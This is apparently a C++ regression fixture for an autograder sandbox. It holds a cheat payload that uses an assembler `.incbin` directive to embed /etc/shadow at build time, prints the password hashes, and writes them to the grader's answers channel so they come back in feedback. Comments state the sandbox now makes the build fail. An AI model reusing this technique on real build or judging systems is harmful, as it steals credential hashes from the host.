// Cheat (issue 21, family 1): the assembler reads a file for the student. `.incbin "/etc/shadow"`
// in a host function's asm puts root's password hashes into the probe, whose static initialiser
// prints them and writes the first line to the answers channel as the header's lab, which a judge
// echoes into every test's message ("the answers file is for lab root:...", measured on the judge
// before issue 21, run unconfined as root). Inside the sandbox there is no /etc, and the uid a
// submission runs as cannot read /etc/shadow: the build fails on the assembler's error (the proof
// that the directive was reached), and no line of the file reaches a verdict or feedback.
// APPLIES: all
// MODE: append
// EXPECT: build-fails: the assembler cannot read /etc/shadow (no /etc inside the sandbox, not readable by the submission's uid)
// MARKER: :99999:7:::
// MARKER: BANKLAB-PAYLOAD-INCBIN
#include <unistd.h>

#include <cstdio>
#include <cstring>

extern "C" const char banklab_cheat_shadow[];

namespace banklab_cheat_incbin {
inline void holder() {
  __asm__ volatile(
      ".pushsection .rodata.banklab_cheat_shadow,\"a\"\n"
      ".globl banklab_cheat_shadow\n"
      "banklab_cheat_shadow:\n"
      ".incbin \"/etc/shadow\"\n"
      ".byte 0\n"
      ".popsection\n");
}

const int kLeaked = [] {
  holder();
  std::printf("BANKLAB-PAYLOAD-INCBIN read %zu bytes\n%s\n", std::strlen(banklab_cheat_shadow), banklab_cheat_shadow);
  std::fflush(stdout);
  const char* end = std::strchr(banklab_cheat_shadow, '\n');
  dprintf(3, "banklab-answers 1 lab %.*s\n", end ? static_cast<int>(end - banklab_cheat_shadow) : 200, banklab_cheat_shadow);
  return 0;
}();
}  // namespace banklab_cheat_incbin
